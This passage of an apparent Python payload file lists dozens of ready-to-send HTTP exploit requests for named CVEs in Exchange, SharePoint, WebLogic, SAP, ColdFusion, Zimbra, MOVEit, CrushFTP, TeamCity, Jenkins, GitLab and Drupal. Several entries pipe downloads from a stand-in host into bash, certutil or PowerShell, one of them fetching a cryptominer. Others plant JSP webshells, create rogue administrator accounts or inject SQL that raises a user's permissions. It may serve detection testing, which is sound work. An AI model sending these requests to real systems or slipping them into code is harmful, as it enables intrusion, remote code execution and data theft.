          '"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel","ExternalUrl":'
          '"http://f/<script language=\\"JScript\\" runat=\\"server\\">function Page_Load()'
          '{eval(Request[\\"exec_code\\"],\\"unsafe\\");}</script>"}}}')),
    ("ssrf", "CVE-2021-34473 Exchange ProxyShell autodiscover Email path confusion", "path",
     "", "/autodiscover/autodiscover.json?@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp"),
    ("ssrf", "CVE-2021-34473 Exchange ProxyShell backend PowerShell endpoint", "path",
     "", "/autodiscover/autodiscover.json?@evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBpB"
         "ZG1pbmlzdHJhdG9yQGNvcnAubG9jYWw%3D&Email=autodiscover/autodiscover.json%3F@evil.corp"),
    ("ssrf", "CVE-2022-41040 Exchange ProxyNotShell autodiscover SSRF", "path",
     "", "/autodiscover/autodiscover.json?@evil.corp/owa/&Email=autodiscover/autodiscover.json%3F@evil.corp"
         "&Protocol=XYZ&FooProtocol=%50owershell"),
    ("ssrf", "CVE-2022-41080 Exchange OWASSRF owa mailbox powershell path", "raw", "",
     _raw("POST", "/owa/mastermailbox%40outlook.com/powershell",
          [_UA, "Content-Type: application/soap+xml;charset=UTF-8",
           "Authorization: Basic dXNlcjE6UGFzc3dvcmQx", "X-OWA-ExplicitLogonUser: owa/mastermailbox@outlook.com"],
          '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body/></s:Envelope>')),
    ("java", "CVE-2020-0688 Exchange ECP static machineKey ViewState deserialization", "path",
     "", "/ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE="
         + base64.b64encode(b"\xff\x012\x97\x05" + b'<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" '
                            b'xmlns:System="clr-namespace:System;assembly=mscorlib" xmlns:Diag="clr-namespace:System.Diagnostics;assembly=system">'
                            b'<ObjectDataProvider x:Key="" ObjectType="{x:Type Diag:Process}" MethodName="Start">'
                            b'<ObjectDataProvider.MethodParameters><System:String>cmd</System:String><System:String>'
                            b'/c whoami > C:\\inetpub\\wwwroot\\aspnet_client\\x.txt</System:String>'
                            b'</ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>').decode()
         .replace("+", "%2B").replace("/", "%2F").replace("=", "%3D")),
    ("java", "CVE-2025-53770 SharePoint ToolShell ToolPane ExcelDataSet gadget", "raw", "",
     _raw("POST", "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx",
          [_UA, _FORM, "Referer: /_layouts/SignOut.aspx"],
          "MSOTlPn_Uri=https%3A%2F%2Ftarget.example%2F_controltemplates/15/AclEditor.ascx"
          "&MSOTlPn_DWP=%3C%25%40+Register+Tagprefix%3D%22Scorecard%22+Namespace%3D%22Microsoft.PerformancePoint."
          "Scorecards%22+Assembly%3D%22Microsoft.PerformancePoint.Scorecards.Client%2C+Version%3D16.0.0.0%2C+"
          "Culture%3Dneutral%2C+PublicKeyToken%3D71e9bce111e9429c%22+%25%3E%0A%3Casp%3AUpdateProgress+ID%3D%22"
          "UpdateProgress1%22+DisplayAfter%3D%2210%22+runat%3D%22server%22+AssociatedUpdatePanelID%3D%22upTest%22%3E"
          "%3CProgressTemplate%3E%3CScorecard%3AExcelDataSet+CompressedDataTable%3D%22"
          "H4sIAAAAAAAEAO1Y3W7bNhR%2BFcP3jiVnrtMiMeDYcWPMlVbpOkYwLjtZe9TxB%22+DataTable-CaseSensitive%3D%22false%22"
          "+runat%3D%22server%22%3E%3C%2FScorecard%3AExcelDataSet%3E%3C%2FProgressTemplate%3E%3C%2Fasp%3AUpdateProgress%3E")),
    ("generic", "CVE-2023-29357 SharePoint alg none JWT auth bypass", "raw", "",
     _raw("GET", "/_api/web/siteusers",
          [_UA, "Accept: application/json",
           "Authorization: Bearer eyJhbGciOiAibm9uZSJ9." + _b64(
               '{"aud":"00000003-0000-0ff1-ce00-000000000000@*","iss":"00000003-0000-0ff1-ce00-000000000000",'
               '"nbf":1695987703,"exp":2011547223,"ver":"hashedprooftoken","nameid":"c#.w|sp_admin",'
               '"endpointurl":"qqlAJmTxpB9A67xSyZk+tmrrNmYClY/fqig7ceZNsSM=","isloopback":true}').rstrip("=") + ".",
           "X-PROOF_TOKEN: eyJhbGciOiAibm9uZSJ9.eyJpc2xvb3BiYWNrIjp0cnVlfQ."])),
    # --- Oracle ---
    ("java", "CVE-2020-14882 WebLogic console traversal ShellSession MVEL", "raw", "",
     _raw("GET", "/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle="
                 "com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27id%27);%22)",
          [_UA])),
    ("java", "CVE-2020-14750 WebLogic console bypass ClassPathXmlApplicationContext", "raw", "",
     _raw("POST", "/console/images/%252E%252E%252Fconsole.portal", [_UA, _FORM],
          "_nfpb=true&_pn=HomePage&handle=com.bea.core.repackaged.springframework.context.support."
          "FileSystemXmlApplicationContext(%22http://203.0.113.7/poc.xml%22)")),
    ("java", "CVE-2017-10271 WebLogic wls-wsat XMLDecoder ProcessBuilder", "raw", "",
     _raw("POST", "/wls-wsat/CoordinatorPortType", [_UA, "Content-Type: text/xml;charset=UTF-8"],
          '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
          '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8" '
          'class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" '
          'length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void>'
          '<void index="2"><string>curl http://203.0.113.7/xmrig.sh | bash</string></void></array>'
          '<void method="start"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>')),
    ("java", "CVE-2019-2725 WebLogic _async AsyncResponseService XMLDecoder", "raw", "",
     _raw("POST", "/_async/AsyncResponseService", [_UA, "Content-Type: text/xml", "SOAPAction: "],
          '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" '
          'xmlns:wsa="http://www.w3.org/2005/08/addressing" xmlns:asy="http://www.bea.com/async/AsyncResponseService">'
          '<soapenv:Header><wsa:Action>xx</wsa:Action><wsa:RelatesTo>xx</wsa:RelatesTo><work:WorkContext '
          'xmlns:work="http://bea.com/2004/06/soap/workarea/"><void class="java.lang.ProcessBuilder"><array '
          'class="java.lang.String" length="3"><void index="0"><string>cmd</string></void><void index="1">'
          '<string>/c</string></void><void index="2"><string>certutil -urlcache -split -f http://203.0.113.7/a.exe'
          '</string></void></array><void method="start"/></void></work:WorkContext></soapenv:Header>'
          '<soapenv:Body><asy:onAsyncDelivery/></soapenv:Body></soapenv:Envelope>')),
    ("ssrf", "CVE-2025-61882 Oracle EBS UiServlet getUiType return_url SSRF", "raw", "",
     _raw("POST", "/OA_HTML/configurator/UiServlet", [_UA, _FORM],
          "redirectFromJsp=1&getUiType=%3C%40urlencoded%3E%3C%3Fxml+version%3D%221.0%22+encoding%3D%22UTF-8%22%3F%3E"
          "%3Cinitialize%3E%3Cparam+name%3D%22init_was_saved%22%3Etest%3C%2Fparam%3E%3Cparam+name%3D%22return_url%22%3E"
          "http%3A%2F%2F203.0.113.7%3A7201%2Fx%3C%2Fparam%3E%3Cparam+name%3D%22ui_def_id%22%3E0%3C%2Fparam%3E"
          "%3Cparam+name%3D%22config_effective_usage_id%22%3E0%3C%2Fparam%3E%3Cparam+name%3D%22ui_type%22%3EApplet"
          "%3C%2Fparam%3E%3C%2Finitialize%3E%3C%2F%40urlencoded%3E")),
    ("java", "CVE-2018-2894 WebLogic ws_utc workDir change for JSP upload", "raw", "",
     _raw("POST", "/ws_utc/resources/setting/options/general", [_UA, _FORM],
          "setting_id=general&BasicConfigOptions.workDir=%2Fu01%2Foracle%2Fuser_projects%2Fdomains%2Fbase_domain"
          "%2Fservers%2FAdminServer%2Ftmp%2F_WL_internal%2Fcom.oracle.webservices.wls.ws-testclient-app-wls%2F4mcj4y"
          "%2Fwar%2Fcss&BasicConfigOptions.proxyHost=&BasicConfigOptions.proxyPort=80")),
    # --- SAP ---
    ("java", "CVE-2025-31324 SAP NetWeaver metadatauploader JSP upload", "raw", "",
     _raw("POST", "/developmentserver/metadatauploader?CONTENT_TYPE=IMPL&FILENAME=helper.jsp", [_UA, _MPCT],
          _mp([("file", "../../../../../../usr/sap/SID/J00/j2ee/cluster/apps/sap.com/irj/servlet_jsp/irj/root/helper.jsp",
                "application/octet-stream",
                '<%@ page import="java.util.*,java.io.*"%><% Process p=Runtime.getRuntime().exec('
                'request.getParameter("cmd")); %>')]))),
    ("generic", "CVE-2020-6287 SAP RECON CTCWebService executeSynchronious user create", "raw", "",
     _raw("POST", "/CTCWebService/CTCWebServiceBean", [_UA, "Content-Type: text/xml;charset=UTF-8"],
          '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" '
          'xmlns:urn="urn:CTCWebServiceSi"><soapenv:Header/><soapenv:Body><urn:executeSynchronious><identifier>'
          '<component>sap.com/tc~lm~config~content</component><path>content/Netweaver/ASJava/NWA/SPC/'
          'SPC_UserManagement.cproc</path></identifier><contextMessages><baData>'
          + _b64('<PCK><Usermanagement><SAP_XI_PCK_CONFIG><roleName>Administrator</roleName></SAP_XI_PCK_CONFIG>'
                 '<SAP_XI_PCK_COMMUNICATION><roleName>ProcessIntegrator</roleName></SAP_XI_PCK_COMMUNICATION>'
                 '<SAP_XI_PCK_MONITOR><roleName>ProcessIntegrator</roleName></SAP_XI_PCK_MONITOR>'
                 '<SAP_XI_PCK_ADMIN><roleName>Administrator</roleName></SAP_XI_PCK_ADMIN><PCKUser>'
                 '<userName secure="true">sapRpoc5484</userName><password secure="true">Secure!PwD3458</password>'
                 '</PCKUser><PCKReceiver><userName>sapRpoc5484</userName><password secure="true">Secure!PwD3458'
                 '</password></PCKReceiver></Usermanagement></PCK>')
          + '</baData><name>userDetails</name></contextMessages></urn:executeSynchronious></soapenv:Body>'
          '</soapenv:Envelope>')),
    ("rce", "CVE-2010-5326 SAP Invoker ConfigServlet EXECUTE_CMD", "path",
     "", "/ctc/servlet/com.sap.ctc.util.ConfigServlet?param=com.sap.ctc.util.FileSystemConfig;EXECUTE_CMD;CMDLINE=cat /etc/passwd"),
    ("ptrav", "CVE-2017-12637 SAP NetWeaver UIUtilJavaScriptJS traversal", "path",
     "", "/scheduler/ui/js/ffffffffbca41eb4/UIUtilJavaScriptJS?/.."),
    # --- Adobe ColdFusion / Zimbra / Magento ---
    ("java", "CVE-2023-29300 ColdFusion WDDX JdbcRowSetImpl JNDI", "raw", "",
     _raw("POST", "/CFIDE/wizards/common/utils.cfc?method=wizardHash&_cfclient=true", [_UA, _FORM],
          "argumentCollection=<wddxPacket version='1.0'><header/><data><struct type='xcom.sun.rowset.JdbcRowSetImplx'>"
          "<var name='dataSourceName'><string>ldap://203.0.113.7:1389/Exploit</string></var>"
          "<var name='autoCommit'><boolean value='true'/></var></struct></data></wddxPacket>")),
    ("ptrav", "CVE-2023-26360 ColdFusion iedit.cfc _metadata classname file read", "raw", "",
     _raw("POST", "/cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/iedit.cfc?method=wizardHash"
                  "&_cfclient=true&returnFormat=wddx", [_UA, _FORM],
          '_variables={"_metadata":{"classname":"i/../lib/password.properties"},"_variables":[]}')),
    ("ptrav", "CVE-2022-27925 Zimbra mboximport zip traversal webshell", "raw", "",
     _raw("POST", "/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1",
          [_UA, "Content-Type: application/octet-stream"],
          "PK\x03\x04\x14\x00\x00\x00\x00\x00../../../../mailboxd/webapps/zimbraAdmin/0MVzAe6pgwe5go1D.jsp"
          '<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("cmd")); %>')),
    ("xxe", "CVE-2019-9670 Zimbra Autodiscover XXE localconfig.xml", "raw", "",
     _raw("POST", "/Autodiscover/Autodiscover.xml", [_UA, "Content-Type: application/xml"],
          '<!DOCTYPE xxe [<!ELEMENT name ANY ><!ENTITY xxe SYSTEM "file:../conf/localconfig.xml" >]>'
          '<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a">'
          '<Request><EMailAddress>aaaaa</EMailAddress><AcceptableResponseSchema>&xxe;</AcceptableResponseSchema>'
          '</Request></Autodiscover>')),
    ("xxe", "CVE-2024-34102 Magento CosmicSting estimate-shipping XXE", "raw", "",
     _raw("POST", "/rest/V1/guest-carts/1/estimate-shipping-methods", [_UA, _JSON],
          '{"address":{"totalsReader":{"collectorList":{"totalCollector":{"sourceData":{"data":'
          '"<?xml version=\\"1.0\\" ?><!DOCTYPE r [<!ELEMENT r ANY ><!ENTITY % sp SYSTEM '
          '\\"http://203.0.113.7/dtd.xml\\"> %sp; %param1; ]><r>&exfil;</r>","options":16}}}}}}')),
    # --- ManageEngine ---
    ("generic", "CVE-2021-40539 ADSelfService /./RestAPI LogonCustomization upload", "raw", "",
     _raw("POST", "/./RestAPI/LogonCustomization", [_UA, _MPCT],
          _mp([("methodToCall", None, None, "unspecified"), ("Save", None, None, "yes"),
               ("form", None, None, "smartcard"), ("operation", None, None, "Add"),
               ("CERTIFICATE_PATH", "Si.class", "application/octet-stream",
                "\udcca\udcfe\udcba\udcbe\x00\x00\x004\x00\x1f\n\x00\x07\x00\x12\x08\x00\x13java/lang/Runtime")]))),
    ("rce", "CVE-2021-40539 ADSelfService keytool providerclass code load", "raw", "",
     _raw("POST", "/./RestAPI/Connection", [_UA, _FORM],
          "methodToCall=openSSLTool&action=generateCSR&KEY_LENGTH=1024+-providerclass+Si+-providerpath+%22..%5Cbin%22")),
    ("java", "CVE-2022-47966 ManageEngine SAML XSLT Transform xalan Runtime exec", "raw", "",
     _raw("POST", "/SamlResponseServlet", [_UA, _FORM],
          "SAMLResponse=PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoyLjA6cHJvdG9jb2wiIElEPSJfZWRkYzFlNWYtOGM4Ny00ZTU1LTgzMDktYzZkNjlkNmMyYWRmIiBJblJlc3BvbnNlVG89Il80YjA1ZTQxNGM0ZjM3ZTQxNzg5YjZlZjFiZGFhYTlmZiIgSXNzdWVJbnN0YW50PSIyMDIzLTAxLTE2VDEzOjU2OjQ2LjUxNFoiIFZlcnNpb249IjIuMCI%2BPHNhbWxwOlN0YXR1cz48c2FtbHA6U3RhdHVzQ29kZSBWYWx1ZT0idXJuOm9hc2lzOm5hbWVzOnRjOlNBTUw6Mi4wOnN0YXR1czpTdWNjZXNzIi8%2BPC9zYW1scDpTdGF0dXM%2BPEFzc2VydGlvbiB4bWxucz0idXJuOm9hc2lzOm5hbWVzOnRjOlNBTUw6Mi4wOmFzc2VydGlvbiIgSUQ9Il9iNWEyZTlhYS04OTU1LTRhYzYtOTRmNS0zMzQwNDc4ODI2MDAiIElzc3VlSW5zdGFudD0iMjAyMy0wMS0xNlQxMzo1Njo0Ni40OThaIiBWZXJzaW9uPSIyLjAiPjxJc3N1ZXI%2BaHR0cHM6Ly9ldmlsLmV4YW1wbGUvPC9Jc3N1ZXI%2BPGRzOlNpZ25hdHVyZSB4bWxuczpkcz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC8wOS94bWxkc2lnIyI%2BPGRzOlNpZ25lZEluZm8%2BPGRzOkNhbm9uaWNhbGl6YXRpb25NZXRob2QgQWxnb3JpdGhtPSJodHRwOi8vd3d3LnczLm9yZy8yMDAxLzEwL3htbC1leGMtYzE0biMiLz48ZHM6U2lnbmF0dXJlTWV0aG9kIEFsZ29yaXRobT0iaHR0cDovL3d3dy53My5vcmcvMjAwMS8wNC94bWxkc2lnLW1vcmUjcnNhLXNoYTI1NiIvPjxkczpSZWZlcmVuY2UgVVJJPSIjX2I1YTJlOWFhLTg5NTUtNGFjNi05NGY1LTMzNDA0Nzg4MjYwMCI%2BPGRzOlRyYW5zZm9ybXM%2BPGRzOlRyYW5zZm9ybSBBbGdvcml0aG09Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvMDkveG1sZHNpZyNlbnZlbG9wZWQtc2lnbmF0dXJlIi8%2BPGRzOlRyYW5zZm9ybSBBbGdvcml0aG09Imh0dHA6Ly93d3cudzMub3JnL1RSLzE5OTkvUkVDLXhzbHQtMTk5OTExMTYiPjx4c2w6c3R5bGVzaGVldCB2ZXJzaW9uPSIxLjAiIHhtbG5zOnhzbD0iaHR0cDovL3d3dy53My5vcmcvMTk5OS9YU0wvVHJhbnNmb3JtIiB4bWxuczpydD0iaHR0cDovL3htbC5hcGFjaGUub3JnL3hhbGFuL2phdmEvamF2YS5sYW5nLlJ1bnRpbWUiIHhtbG5zOm9iPSJodHRwOi8veG1sLmFwYWNoZS5vcmcveGFsYW4vamF2YS9qYXZhLmxhbmcuT2JqZWN0Ij48eHNsOnRlbXBsYXRlIG1hdGNoPSIvIj48eHNsOnZhcmlhYmxlIG5hbWU9InJ0b2JqZWN0IiBzZWxlY3Q9InJ0OmdldFJ1bnRpbWUoKSIvPjx4c2w6dmFyaWFibGUgbmFtZT0icHJvY2VzcyIgc2VsZWN0PSJydDpleGVjKCRydG9iamVjdCwnY21kIC9jIHBvd2Vyc2hlbGwgLW5vcCAtdyBoaWRkZW4gLWMgaXdyIGh0dHA6Ly8yMDMuMC4xMTMuNy9hLnBzMXxpZXgnKSIvPjx4c2w6dmFyaWFibGUgbmFtZT0icHJvY2Vzc1N0cmluZyIgc2VsZWN0PSJvYjp0b1N0cmluZygkcHJvY2VzcykiLz48eHNsOnZhbHVlLW9mIHNlbGVjdD0iJHByb2Nlc3NTdHJpbmciLz48L3hzbDp0ZW1wbGF0ZT48L3hzbDpzdHlsZXNoZWV0PjwvZHM6VHJhbnNmb3JtPjwvZHM6VHJhbnNmb3Jtcz48ZHM6RGlnZXN0TWV0aG9kIEFsZ29yaXRobT0iaHR0cDovL3d3dy53My5vcmcvMjAwMS8wNC94bWxlbmMjc2hhMjU2Ii8%2BPGRzOkRpZ2VzdFZhbHVlPkg3Z0t1TzZ0OU1iQ0padWpBOVM3V2xMRmdkcU11TmUwMTQ1S1J3S2wwMDA9PC9kczpEaWdlc3RWYWx1ZT48L2RzOlJlZmVyZW5jZT48L2RzOlNpZ25lZEluZm8%2BPGRzOlNpZ25hdHVyZVZhbHVlPlJiQldCNkFJUDhBTjF3VFpONllZQ0tkbkNsRm9oOEdxbVUyUlhveWpta3I2STBBUDM3MUlTN2p4U01TMnp4RkNkWjgwa0ludmdWdWFFdDN5UW1jcTMzPC9kczpTaWduYXR1cmVWYWx1ZT48L2RzOlNpZ25hdHVyZT48L0Fzc2VydGlvbj48L3NhbWxwOlJlc3BvbnNlPg%3D%3D&RelayState=")),
    ("java", "CVE-2020-10189 Desktop Central mdmLogUploader serialized upload", "raw", "",
     _raw("POST", "/mdm/client/v1/mdmLogUploader?udid=si\\..\\..\\..\\webapps\\DesktopCentral\\_chart"
                  "&filename=logger.zip", [_UA, "Content-Type: application/octet-stream"],
          "\udcac\udced\x00\x05sr\x00\x17java.util.PriorityQueue\udc94\udcda0\udcb4\udcfb?\udc82\udcb1\x03\x00\x02I"
          "\x00\x04sizeL\x00\ncomparatort\x00\x16Ljava/util/Comparator;xp\x00\x00\x00\x02sr\x00+"
          "org.apache.commons.beanutils.BeanComparator")),
    ("java", "CVE-2020-10189 Desktop Central cewolf img deserialization trigger", "path",
     "", "/cewolf/?img=/../_chart/logger.zip"),
    ("generic", "CVE-2021-44077 ServiceDesk Plus ImportTechnicians msiexec upload", "raw", "",
     _raw("POST", "/RestAPI/ImportTechnicians?step=1", [_UA, _MPCT],
          _mp([("theFile", "msiexec.exe", "application/octet-stream",
                "MZ\udc90\x00\x03\x00\x00\x00\x04\x00\x00\x00\udcff\udcff\x00\x00\udcb8\x00\x00\x00"
                "This program cannot be run in DOS mode.")]))),
    ("rce", "CVE-2021-44077 ServiceDesk Plus s247action agent install execute", "path",
     "", "/RestAPI/s247action?execute=s247AgentInstallationProcess&apiKey=asdasd"),
    # --- SolarWinds ---
    ("generic", "CVE-2020-10148 SolarWinds Orion i18n.ashx web.config disclosure", "path",
     "", "/web.config.i18n.ashx?l=en-US&v=43005"),
    ("generic", "CVE-2020-10148 SolarWinds Orion SWNetPerfMon.db i18n bypass", "path",
     "", "/SWNetPerfMon.db.i18n.ashx?l=en-US&v=43005"),
    ("ptrav", "CVE-2024-28995 Serv-U InternalDir traversal win.ini", "path",
     "", "/?InternalDir=/../../../../windows&InternalFile=win.ini"),
    ("ptrav", "CVE-2024-28995 Serv-U InternalDir backslash traversal", "raw", "",
     _raw("GET", "/?InternalDir=\\..\\..\\..\\..\\ProgramData\\RhinoSoft\\Serv-U\\&InternalFile=Serv-U-StartupLog.txt",
          [_UA])),
    ("generic", "CVE-2024-28987 SolarWinds WHD hardcoded integration credentials", "raw", "",
     _raw("GET", "/helpdesk/WebObjects/Helpdesk.woa/ra/OrionTickets/",
          [_UA, "Accept: application/json",
           "Authorization: Basic " + _b64("helpdeskIntegrationUser:dev-C4F8025E7")])),
    # --- Telerik / Progress ---
    ("scanner", "CVE-2019-18935 Telerik RadAsyncUpload handler probe", "path",
     "", "/Telerik.Web.UI.WebResource.axd?type=rau"),
    ("java", "CVE-2019-18935 Telerik RadAsyncUpload rauPostData mixed-mode dll", "raw", "",
     _raw("POST", "/Telerik.Web.UI.WebResource.axd?type=rau", [_UA, _MPCT],
          _mp([("rauPostData", None, None,
                "mQqtgzM9vBIHtHlGWVPsZW1t3uMRbnC4KVDNGfGkVHoYFOS0IDuSLEC1bcjrXnzN2ZuDpy4JAq0wyjWx"
                "CbqlzNcbn8Q5p2oCQb3IpKtHpZ4X0IwwLM6JvQ==&"
                + _b64("Telerik.Web.UI.AsyncUploadConfiguration, Telerik.Web.UI, Version=2017.2.711.40, "
                       "Culture=neutral, PublicKeyToken=121fae78165ba3d4")),
               ("file", "blob", "application/octet-stream",
                "MZ\udc90\x00\x03\x00\x00\x00\x04\x00\x00\x00\udcff\udcffDllMain sleep.dll"),
               ("fileName", None, None, "RAU_crypto.bypass"), ("contentType", None, None, "text/html"),
               ("lastModifiedDate", None, None, "2019-01-02T03:04:05.067Z"), ("metadata", None, None,
                '{"TotalChunks":1,"ChunkIndex":0,"TotalFileSize":1,"UploadID":"1570123456.dll"}')]))),
    ("generic", "CVE-2017-9248 Telerik DialogHandler dp crypto brute force", "path",
     "", "/Telerik.Web.UI.DialogHandler.aspx?DialogName=DocumentManager&renderMode=2&Skin=Default"
         "&Title=Document%20Manager&dpptn=&isRtl=false&dp=JEM2ZTdlRjU4JUAmPUAkJGBkPzg2QCU8fDM%3D"),
    ("generic", "CVE-2024-4358 Telerik Report Server Startup/Register admin", "raw", "",
     _raw("POST", "/Startup/Register", [_UA, _FORM],
          "Username=pwnadmin&Password=Pwn3d!2024&ConfirmPassword=Pwn3d!2024&Email=pwn%40example.com"
          "&FirstName=pwn&LastName=admin")),
    # --- Managed file transfer ---
    ("sqli", "CVE-2023-34362 MOVEit moveitisapi session_setvars header smuggle", "raw", "",
     _raw("POST", "/moveitisapi/moveitisapi.dll?action=m2",
          [_UA, "X-siLock-Transaction: folder_add_by_path", "xx-silock-transaction: session_setvars",
           "X-siLock-SessVar0: MyUsername: Guest", "X-siLock-SessVar1: MyPkgAccessCode: 123",
           "X-siLock-SessVar2: MyPkgID: 0", "X-siLock-SessVar3: MyGuestEmailAddr: a@b.com",
           "X-siLock-SessVar4: MyPkgValidationCode: 123",
           "X-siLock-SessVar5: MyPkgSelfProvisionedRecips: x@x.com','x'),(1,'x@x.com','x'); "
           "UPDATE users SET Permission=30 WHERE Username='sysadmin';--"], "")),
    ("generic", "CVE-2024-0204 GoAnywhere MFT ..; InitialAccountSetup bypass", "path",
     "", "/goanywhere/images/..;/wizard/InitialAccountSetup.xhtml"),
    ("java", "CVE-2023-0669 GoAnywhere lic/accept encrypted serialized bundle", "raw", "",
     _raw("POST", "/goanywhere/lic/accept", [_UA, _FORM],
          "bundle=Kx5MSXfiYaSeyz0eHjP3Y3Lv0Y1oUSrTmEhfRZXD5X3aZgVMjN9T-nBUmSwe4D5u8XY_qgtjfJDkVIb5jQ$2")),
    ("generic", "CVE-2025-31161 CrushFTP AWS4 Credential crushadmin auth bypass", "raw", "",
     _raw("GET", "/WebInterface/function/?command=getUserList&serverGroup=MainUsers&c2f=1111",
          [_UA, "Cookie: currentAuth=1111; CrushAuth=1743526545658_p38s3LvsGAfk4GvVu0vWtsEQEv1111",
           "Authorization: AWS4-HMAC-SHA256 Credential=crushadmin/"])),
    ("ssti", "CVE-2024-4040 CrushFTP INCLUDE tag server-side template file read", "raw", "",
     _raw("POST", "/WebInterface/function/", [_UA, _FORM,
          "Cookie: currentAuth=31If; CrushAuth=1713820264658_vITBGz6s7JgzTSJ0kuW8unCP4ZQ31If"],
          "command=zip&c2f=31If&path=%3CINCLUDE%3E/etc/passwd%3C/INCLUDE%3E&names=/bbb")),
    ("ptrav", "CVE-2024-50623 Cleo Harmony VLSync Retrieve traversal", "raw", "",
     _raw("GET", "/Synchronization", [_UA,
          "VLSync: Retrieve;l=Ab1234-RQ0258;n=VLTrader;v=5.7.0.0;a=1337;po=1337;s=True;b=False;pp=myEncryptionKey;"
          "path=..\\..\\..\\..\\Windows\\win.ini;"])),
    ("ptrav", "CVE-2024-55956 Cleo VLTrader VLSync ADD autorun file write", "raw", "",
     _raw("POST", "/Synchronization", [_UA, "Content-Type: application/octet-stream",
          "VLSync: ADD;l=Ab1234-RQ0258;n=VLTrader;v=5.7.0.0;a=1337;po=1337;s=True;b=False;pp=myEncryptionKey;"
          "path=..\\..\\autorun\\healthchecktemplate.txt;"],
          "SYSTEM cmd.exe /c powershell -NonInteractive -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA")),
    # --- CI/CD and dev tools ---
    ("generic", "CVE-2023-42793 TeamCity RPC2 token creation auth bypass", "raw", "",
     _raw("POST", "/app/rest/users/id:1/tokens/RPC2", [_UA, "Accept: application/json"], "")),
    ("generic", "CVE-2024-27198 TeamCity jsp ;.jsp alternate path bypass", "path",
     "", "/hax?jsp=/app/rest/server;.jsp"),
    ("generic", "CVE-2024-27198 TeamCity alternate path admin user creation", "raw", "",
     _raw("POST", "/hax?jsp=/app/rest/users;.jsp", [_UA, _JSON],
          '{"username":"pwned1337","password":"Pwned!1337","email":"pwned@example.com",'
          '"roles":{"role":[{"roleId":"SYSTEM_ADMIN","scope":"g"}]}}')),
    ("ptrav", "CVE-2024-23897 Jenkins CLI args4j @file expansion /etc/passwd", "raw", "",
     _raw("POST", "/cli?remoting=false",
          [_UA, "Session: 5f0c6d21-3b7a-4f2e-9a61-8c0d2e4b7a19", "Side: upload",
           "Content-Type: application/octet-stream"], _JENKINS_CLI)),
    ("java", "CVE-2019-1003000 Jenkins checkScript Groovy AST exec", "path",
     "", '/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.'
         'SecureGroovyScript/checkScript?sandbox=true&value=public class x {public x(){"curl http://203.0.113.7/j|sh".execute()}}'),
    ("java", "CVE-2019-1003000 Jenkins checkScript Grab remote jar", "path",
     "", "/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript"
         "?sandbox=true&value=@GrabConfig(disableChecksums=true)%0a@GrabResolver(name='x',root='http://203.0.113.7/')"
         "%0a@Grab(group='pwn',module='rce',version='1')%0aimport Orange;"),
    ("rce", "CVE-2021-22205 GitLab ExifTool DjVu annotation upload", "raw", "",
     _raw("POST", "/uploads/user", [_UA, _MPCT, "X-CSRF-Token: cnVieW9uZ2V0bGFi"],
          _mp([("file", "test.jpg", "image/jpeg", _djvu("curl -s http://203.0.113.7/g.sh|bash"))]))),
    ("generic", "CVE-2023-7028 GitLab password reset to attacker email array", "raw", "",
     _raw("POST", "/users/password", [_UA, _FORM],
          "authenticity_token=7Dq2mYv0o9hM&user%5Bemail%5D%5B%5D=admin%40victim.example"
          "&user%5Bemail%5D%5B%5D=attacker%40evil.example")),
    # --- CMS ---
    ("generic", "CVE-2023-23752 Joomla API config application public=true leak", "path",
     "", "/api/index.php/v1/config/application?public=true"),
    ("php", "CVE-2015-8562 Joomla User-Agent session object injection", "header:User-Agent", "",
     '}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}s:21:"\\0\\0\\0disconnectHandlers";'
     'a:1:{i:0;a:2:{i:0;O:9:"SimplePie":5:{s:8:"sanitize";O:20:"JDatabaseDriverMysql":0:{}s:8:"feed_url";'
     's:37:"phpinfo();JFactory::getConfig();exit;";s:19:"cache_name_function";s:6:"assert";s:5:"cache";b:1;'
     's:11:"cache_class";O:20:"JDatabaseDriverMysql":0:{}}i:1;s:4:"init";}}s:13:"\\0\\0\\0connection";b:1;}\udcf0\udcfd\udcfd\udcfd'),
    ("php", "CVE-2018-7600 Drupalgeddon2 user/register #post_render exec", "raw", "",
     _raw("POST", "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
          [_UA, _FORM],
          "form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup"
          "&mail[#markup]=echo+PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==|base64+-d+>+sites/default/files/x.php")),
